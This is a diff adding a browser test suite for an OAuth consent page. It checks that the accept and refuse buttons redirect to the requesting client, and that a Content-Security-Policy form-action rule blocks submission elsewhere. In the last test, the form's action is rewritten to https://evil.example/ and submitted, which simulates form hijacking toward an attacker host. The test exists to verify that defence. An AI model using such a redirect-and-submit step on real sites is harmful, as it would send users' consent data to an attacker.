@@ -1,0 +1,69 @@
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { launchChromium } from '../support/chromium.ts';
+import { makeHostClient, REDIRECT } from '../support/host-client.ts';
+import { type ServedService, startServedService } from '../support/served-service.ts';
+import { ONE_RUPN } from '../support/service.ts';
+import { signInAs } from '../support/sign-in.ts';
+
+const MINUTE = 60_000;
+
+let service: ServedService;
+let browser: Browser;
+let page: Page;
+beforeAll(async () => {
+  service = await startServedService([]);
+  await service.importText(ONE_RUPN);
+  const { cookie } = await signInAs(service, 'claire.dupont@ac-test.example');
+  const [name = '', value = ''] = cookie.split('=');
+  browser = await launchChromium();
+  const context = await browser.newContext({ viewport: { width: 390, height: 664 } });
+  await context.addCookies([
+    { name, value, domain: 'localhost', path: '/', secure: true, httpOnly: true, sameSite: 'Lax' },
+  ]);
+  page = await context.newPage();
+}, 2 * MINUTE);
+afterAll(async () => {
+  await browser?.close();
+  await service?.stop();
+});
+
+describe('the page of consent, in a browser', () => {
+  const open = async () => {
+    const host = makeHostClient(service);
+    const client = await host.registered();
+    await page.goto(`${service.url}/oauth/authorize?${host.request(client)}`);
+  };
+  const press = (name: string) => page.getByRole('button', { name }).click({ noWaitAfter: true });
+
+  it.each([
+    ['Ouvrir l’accès', 'code'],
+    ['Refuser', 'error'],
+  ])(
+    '« %s » leads back to the service that asks',
+    async (button, answered) => {
+      await open();
+      // The service exists nowhere, so the request fails there; a policy of ours must not be what stops it.
+      const failed = page.waitForEvent('requestfailed', (request) => request.url().startsWith(REDIRECT));
+      await press(button);
+      const request = await failed;
+      expect(request.failure()?.errorText).not.toMatch(/CSP|BLOCKED|ABORTED/);
+      const { searchParams } = new URL(request.url());
+      expect(searchParams.get(answered)).toBeTruthy();
+      expect(searchParams.get('state')).toBe('state-1');
+    },
+    MINUTE,
+  );
+
+  it(
+    'lets its form lead nowhere else',
+    async () => {
+      await open();
+      const refused = page.waitForEvent('console', (message) => message.text().includes('form-action'));
+      await page.evaluate('document.querySelector("main form").action = "https://evil.example/"');
+      await page.evaluate('document.querySelector("main form").submit()');
+      expect((await refused).text()).toContain('https://evil.example');
+    },
+    MINUTE,
+  );
+});
